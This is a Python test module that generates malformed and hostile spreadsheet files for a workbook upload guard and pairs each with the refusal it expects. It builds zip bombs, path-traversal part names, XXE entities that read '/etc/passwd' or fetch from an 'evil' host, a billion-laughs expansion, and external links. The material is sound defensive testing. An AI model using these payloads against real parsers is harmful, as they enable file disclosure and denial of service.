"""Files that are no workbook, or whose package is not what an office program makes. Built in code, none is kept."""

import gzip
import random
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

from indicators.excel.guard import MOST_BYTES
from indicators.workbook_rows import Fault
from tests.excel.forms import form_bytes
from tests.excel.packages import (
    BOOK_PART,
    FORM_PART,
    RECORD_PART,
    RELATIONS_PART,
    STRINGS_PART,
    STYLES_PART,
    TYPES_PART,
    before_end,
    form_parts,
    in_directory,
    put_together,
    rebuild,
    swap,
)


@dataclass(frozen=True, slots=True)
class Hostile:
    """One file: how it is made, why it has to be refused, and at which sheet and cell, where it has cells."""

    name: str
    make: Callable[[], bytes]
    fault: Fault
    place: str = ""


def _zip(**parts: str) -> Callable[[], bytes]:
    return lambda: put_together({name.replace("__", "/"): text.encode() for name, text in parts.items()})


def _cut(share: float) -> Callable[[], bytes]:
    return lambda: form_bytes()[: int(len(form_bytes()) * share)]


def _noise(seed: int, length: int, head: bytes = b"") -> Callable[[], bytes]:
    return lambda: head + random.Random(seed).randbytes(length)  # noqa: S311  the same noise each time


NOT_WORKBOOKS = [
    Hostile("nothing", lambda: b"", Fault.EMPTY_FILE),
    Hostile("one byte", lambda: b"P", Fault.NOT_A_WORKBOOK),
    Hostile("zeros", lambda: bytes(5_000), Fault.NOT_A_WORKBOOK),
    Hostile("noise", _noise(1, 9_000), Fault.NOT_A_WORKBOOK),
    Hostile("noise that begins like a package", _noise(2, 9_000, b"PK\x03\x04"), Fault.DAMAGED),
    Hostile("noise that begins like .xls", _noise(3, 9_000, bytes.fromhex("d0cf11e0a1b11ae1")), Fault.DAMAGED),
    Hostile("too large", lambda: b"PK\x03\x04" + bytes(MOST_BYTES), Fault.TOO_BIG),
    Hostile("CSV", lambda: "指标,分子\n合格率,480\n".encode(), Fault.NOT_A_WORKBOOK),
    Hostile("CSV in GBK", lambda: "指标,分子\n合格率,480\n".encode("gbk"), Fault.NOT_A_WORKBOOK),
    Hostile("CSV in UTF-16", lambda: "指标,分子\n".encode("utf-16"), Fault.NOT_A_WORKBOOK),
    Hostile("tabs", lambda: b"a\tb\n1\t2\n", Fault.NOT_A_WORKBOOK),
    Hostile("HTML", lambda: b"<html><table><tr><td>1</td></tr></table></html>", Fault.NOT_A_WORKBOOK),
    Hostile("HTML as Excel saves it", lambda: b"\xef\xbb\xbf<!DOCTYPE html><html xmlns:x='x'>", Fault.NOT_A_WORKBOOK),
    Hostile("XML of 2003", lambda: b"<?xml version='1.0'?><Workbook/>", Fault.NOT_A_WORKBOOK),
    Hostile("PDF", lambda: b"%PDF-1.7\n1 0 obj\n", Fault.NOT_A_WORKBOOK),
    Hostile("PNG", lambda: b"\x89PNG\r\n\x1a\n" + bytes(99), Fault.NOT_A_WORKBOOK),
    Hostile("JPG", lambda: b"\xff\xd8\xff\xe0" + bytes(99), Fault.NOT_A_WORKBOOK),
    Hostile("RTF", lambda: b"{\\rtf1 text}", Fault.NOT_A_WORKBOOK),
    Hostile("JSON", lambda: b'{"a": 1}', Fault.NOT_A_WORKBOOK),
    Hostile("a program", lambda: b"MZ\x90\x00" + bytes(500), Fault.NOT_A_WORKBOOK),
    Hostile("gzip", lambda: gzip.compress(form_bytes()), Fault.NOT_A_WORKBOOK),
    Hostile("7z", lambda: b"7z\xbc\xaf\x27\x1c" + bytes(99), Fault.NOT_A_WORKBOOK),
    Hostile("RAR", lambda: b"Rar!\x1a\x07\x01\x00" + bytes(99), Fault.NOT_A_WORKBOOK),
    Hostile("Excel 2.0", lambda: b"\x09\x00\x04\x00\x02\x00\x10\x00" + bytes(99), Fault.OLD_FORMAT),
    Hostile("Excel 4.0", lambda: b"\x09\x04\x06\x00\x00\x04\x10\x00" + bytes(99), Fault.OLD_FORMAT),
    Hostile("something before the package", lambda: b"#!/bin/sh\n" + form_bytes(), Fault.NOT_A_WORKBOOK),
    Hostile("an empty package", lambda: put_together({}), Fault.NOT_A_WORKBOOK),
    Hostile("any package", _zip(a="text"), Fault.NOT_A_WORKBOOK),
    Hostile("an OpenDocument sheet", _zip(mimetype="x", content="x"), Fault.NOT_A_WORKBOOK),
    Hostile(
        "a Word document",
        lambda: rebuild(edit={"_rels/.rels": swap("xl/workbook.xml", "word/document.xml")}),
        Fault.NOT_A_WORKBOOK,
    ),
    Hostile(
        "a binary workbook",
        lambda: rebuild(edit={"_rels/.rels": swap("xl/workbook.xml", "xl/workbook.bin")}),
        Fault.NOT_A_WORKBOOK,
    ),
    *(Hostile(f"cut at {share:.0%}", _cut(share), Fault.DAMAGED) for share in (0.02, 0.3, 0.6, 0.9, 0.999)),
]


def _bomb(name: str, megabytes: int) -> bytes:
    return rebuild(edit={name: before_end(" " * (megabytes * 1024 * 1024))})


def _two(first: str, second: str) -> bytes:
    parts = [(name, part) for name, part in form_parts().items() if name != first]
    body = form_parts()[first]
    return put_together([*parts, (first, body), (second, body)])


def _overlapping() -> bytes:
    content = put_together({**form_parts(), "docProps/a.xml": b"a", "docProps/b.xml": b"b"})
    first = content.index(b"docProps/a.xml") - 30
    return in_directory(content, "docProps/b.xml", 42, "<I", first)


def _renamed(old: str, new: str) -> bytes:
    assert len(old) == len(new)
    return form_bytes().replace(old.encode(), new.encode())


def _at_size(offset: int) -> bytes:
    size = len(form_parts()[FORM_PART])
    return in_directory(form_bytes(), FORM_PART, 24, "<I", size + offset, local=22)


PACKAGES = [
    Hostile("a bomb in the form", lambda: _bomb(FORM_PART, 60), Fault.TOO_COSTLY),
    Hostile("a bomb in the hidden sheet", lambda: _bomb(RECORD_PART, 50), Fault.TOO_COSTLY),
    Hostile(
        "a bomb in the texts",
        lambda: rebuild(edit={STRINGS_PART: before_end(" " * 50_000_000, of="</sst>")}),
        Fault.TOO_COSTLY,
    ),
    Hostile(
        "a bomb beside the parts that are read",
        lambda: rebuild(add={"xl/media/image1.png": bytes(50_000_000)}),
        Fault.TOO_COSTLY,
    ),
    Hostile(
        "many small bombs",
        lambda: rebuild(add={f"xl/media/{n}.png": bytes(900_000) for n in range(80)}),
        Fault.TOO_COSTLY,
    ),
    Hostile(
        "a thousand parts", lambda: rebuild(add={f"docProps/{n}.xml": b"x" for n in range(1_000)}), Fault.TOO_COSTLY
    ),
    Hostile("parts that overlap", _overlapping, Fault.TOO_COSTLY),
    Hostile("a part twice", lambda: _two(FORM_PART, FORM_PART), Fault.BAD_PACKAGE),
    Hostile("a part twice in other letters", lambda: _two(FORM_PART, "XL/Worksheets/Sheet1.xml"), Fault.BAD_PACKAGE),
    Hostile("a part above the package", lambda: rebuild(add={"../evil.xml": b"x"}), Fault.BAD_PACKAGE),
    Hostile("a part within its parent", lambda: rebuild(add={"xl/../../evil.xml": b"x"}), Fault.BAD_PACKAGE),
    Hostile("a part at the root", lambda: rebuild(add={"/etc/passwd": b"x"}), Fault.BAD_PACKAGE),
    Hostile("a part with a drive", lambda: rebuild(add={"C:/evil.xml": b"x"}), Fault.BAD_PACKAGE),
    Hostile("a part with backslashes", lambda: _renamed("docProps/core.xml", "docProps\\core.xml"), Fault.BAD_PACKAGE),
    Hostile("a part with a line break", lambda: rebuild(add={"a\nb.xml": b"x"}), Fault.BAD_PACKAGE),
    Hostile("an encrypted part", lambda: in_directory(form_bytes(), FORM_PART, 8, "<H", 1, local=6), Fault.ENCRYPTED),
    Hostile(
        "another packing",
        lambda: put_together(form_parts(), method=zipfile.ZIP_BZIP2),
        Fault.BAD_PACKAGE,
    ),
    Hostile(
        "another packing, LZMA",
        lambda: put_together(form_parts(), method=zipfile.ZIP_LZMA),
        Fault.BAD_PACKAGE,
    ),
    Hostile("a size that is too small", lambda: _at_size(-100), Fault.DAMAGED),
    Hostile("a size that is too large", lambda: _at_size(100), Fault.DAMAGED),
    Hostile(
        "a size of four gigabytes", lambda: in_directory(form_bytes(), FORM_PART, 24, "<I", 2**32 - 2), Fault.TOO_COSTLY
    ),
    Hostile("a wrong checksum", lambda: in_directory(form_bytes(), FORM_PART, 16, "<I", 7, local=14), Fault.DAMAGED),
    Hostile("a place outside the file", lambda: in_directory(form_bytes(), FORM_PART, 42, "<I", 2**31), Fault.DAMAGED),
    Hostile("no content types", lambda: rebuild(drop=(TYPES_PART,)), Fault.NOT_A_WORKBOOK),
    Hostile("no relations", lambda: rebuild(drop=("_rels/.rels",)), Fault.NOT_A_WORKBOOK),
    Hostile("no workbook", lambda: rebuild(drop=(BOOK_PART,)), Fault.DAMAGED),
    Hostile("no relations of the workbook", lambda: rebuild(drop=(RELATIONS_PART,)), Fault.DAMAGED),
    Hostile("no form sheet", lambda: rebuild(drop=(FORM_PART,)), Fault.DAMAGED),
    Hostile("no hidden sheet", lambda: rebuild(drop=(RECORD_PART,)), Fault.DAMAGED),
    Hostile("no texts", lambda: rebuild(drop=(STRINGS_PART,)), Fault.DAMAGED),
    Hostile("no styles", lambda: rebuild(drop=(STYLES_PART,)), Fault.DAMAGED),
]


def _with_type(kind: str) -> bytes:
    return rebuild(edit={TYPES_PART: before_end(f'<Override PartName="/x" ContentType="{kind}"/>', of="</Types>")})


def _with_relation(kind: str, target: str, mode: str = "") -> bytes:
    kind = f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"
    xml = f'<Relationship Id="rId99" Type="{kind}" Target="{target}"{mode and f" TargetMode={mode!r}"}/>'
    return rebuild(edit={RELATIONS_PART: before_end(xml, of="</Relationships>")})


_MACRO = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
PARTS = [
    Hostile("macros", lambda: rebuild(add={"xl/vbaProject.bin": b"x"}), Fault.MACROS),
    Hostile("macros by their type", lambda: _with_type("application/vnd.ms-office.vbaProject"), Fault.MACROS),
    Hostile("a macro workbook renamed", lambda: _with_type(_MACRO), Fault.MACROS),
    Hostile("a sheet of macros of 1992", lambda: rebuild(add={"xl/macrosheets/sheet1.xml": b"x"}), Fault.MACROS),
    Hostile("buttons of one's own", lambda: rebuild(add={"customUI/customUI.xml": b"x"}), Fault.MACROS),
    *(
        Hostile(f"active: {name}", lambda name=name: rebuild(add={name: b"x"}), Fault.ACTIVE_PART)
        for name in (
            "xl/activeX/activeX1.xml",
            "xl/embeddings/oleObject1.bin",
            "xl/ctrlProps/ctrlProp1.xml",
            "xl/connections.xml",
            "xl/queryTables/queryTable1.xml",
            "xl/pivotTables/pivotTable1.xml",
            "xl/dialogsheets/sheet1.xml",
            "xl/webextensions/taskpanes.xml",
        )
    ),
    Hostile("a link to a file", lambda: rebuild(add={"xl/externalLinks/externalLink1.xml": b"x"}), Fault.EXTERNAL_LINK),
    Hostile("a link by relation", lambda: _with_relation("externalLink", "externalLinks/x.xml"), Fault.EXTERNAL_LINK),
    Hostile(
        "a link to a share",
        lambda: _with_relation("externalLinkPath", "file:///\\\\evil\\x.xlsx", "External"),
        Fault.EXTERNAL_LINK,
    ),
    Hostile(
        "a link in the workbook",
        lambda: rebuild(
            edit={
                BOOK_PART: before_end("<externalReferences><externalReference/></externalReferences>", of="</workbook>")
            }
        ),
        Fault.EXTERNAL_LINK,
    ),
    Hostile(
        "a picture from outside",
        lambda: rebuild(
            add={
                "xl/worksheets/_rels/sheet1.xml.rels": b'<Relationships xmlns="x"><Relationship Id="r" Type="t/image"'
                b' Target="http://evil/x.png" TargetMode="External"/></Relationships>'
            }
        ),
        Fault.EXTERNAL_LINK,
    ),
    Hostile(
        "a relation twice",
        lambda: rebuild(
            edit={RELATIONS_PART: before_end('<Relationship Id="rId1" Type="x" Target="y"/>', of="</Relationships>")}
        ),
        Fault.BAD_PACKAGE,
    ),
    Hostile("a relation above the package", lambda: _with_relation("theme", "../../x.xml"), Fault.BAD_PACKAGE),
    Hostile("two parts of texts", lambda: _with_relation("sharedStrings", "other.xml"), Fault.BAD_PACKAGE),
]


def _doctype(name: str, body: str = "") -> bytes:
    def change(part: bytes) -> bytes:
        start = part.index(b"?>") + 2 if part.startswith(b"<?xml") else 0
        return part[:start] + f"<!DOCTYPE x [{body}]>".encode() + part[start:]

    return rebuild(edit={name: change})


_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha"}">' for n in range(9))


def _encode(name: str, encoding: str) -> bytes:
    def change(part: bytes) -> bytes:
        text = part.decode().partition("?>")[2] if part.startswith(b"<?xml") else part.decode()
        return f'<?xml version="1.0" encoding="{encoding}"?>{text}'.encode(encoding, "xmlcharrefreplace")

    return rebuild(edit={name: change})


MARKUP = [
    *(
        Hostile(f"a document type in {name}", lambda name=name: _doctype(name), Fault.DOCTYPE)
        for name in (FORM_PART, RECORD_PART, BOOK_PART, STRINGS_PART, STYLES_PART, RELATIONS_PART, TYPES_PART)
    ),
    Hostile(
        "a file read by an entity",
        lambda: _doctype(FORM_PART, '<!ENTITY x SYSTEM "file:///etc/passwd">'),
        Fault.DOCTYPE,
    ),
    Hostile(
        "a page read by an entity", lambda: _doctype(FORM_PART, '<!ENTITY % x SYSTEM "http://evil/">%x;'), Fault.DOCTYPE
    ),
    Hostile("a billion laughs", lambda: _doctype(STRINGS_PART, _LAUGHS), Fault.DOCTYPE),
    Hostile("the form in UTF-16", lambda: _encode(FORM_PART, "utf-16"), Fault.BAD_PACKAGE),
    Hostile("the form in GBK", lambda: _encode(FORM_PART, "gbk"), Fault.BAD_PACKAGE),
    Hostile("the texts in UTF-16", lambda: _encode(STRINGS_PART, "utf-16"), Fault.BAD_PACKAGE),
    Hostile("the texts in UTF-7", lambda: _encode(STRINGS_PART, "utf-7"), Fault.BAD_PACKAGE),
    Hostile("a tag left open", lambda: rebuild(edit={FORM_PART: swap("</sheetData>", "")}), Fault.DAMAGED),
    Hostile("two roots", lambda: rebuild(edit={FORM_PART: lambda part: part + b"<x/>"}), Fault.DAMAGED),
    Hostile(
        "a forbidden character",
        lambda: rebuild(edit={FORM_PART: swap("<sheetData>", "<sheetData>\x01")}),
        Fault.DAMAGED,
    ),
    Hostile(
        "an entity nobody declared",
        lambda: rebuild(edit={FORM_PART: swap("<sheetData>", "<sheetData>&x;")}),
        Fault.DAMAGED,
    ),
    Hostile("half of a workbook part", lambda: rebuild(edit={BOOK_PART: lambda part: part[:200]}), Fault.DAMAGED),
    Hostile("empty styles", lambda: rebuild(edit={STYLES_PART: lambda _part: b""}), Fault.DAMAGED),
    Hostile(
        "a million texts",
        lambda: rebuild(edit={STRINGS_PART: before_end("<si><t>a</t></si>" * 1_000_000, of="</sst>")}),
        Fault.TOO_COSTLY,
    ),
    Hostile(
        "a hundred thousand formats",
        lambda: rebuild(edit={STYLES_PART: before_end('<xf numFmtId="0"/>' * 100_000, of="</cellXfs>")}),
        Fault.TOO_COSTLY,
    ),
]
HOSTILE_FILES = [*NOT_WORKBOOKS, *PACKAGES, *PARTS, *MARKUP]
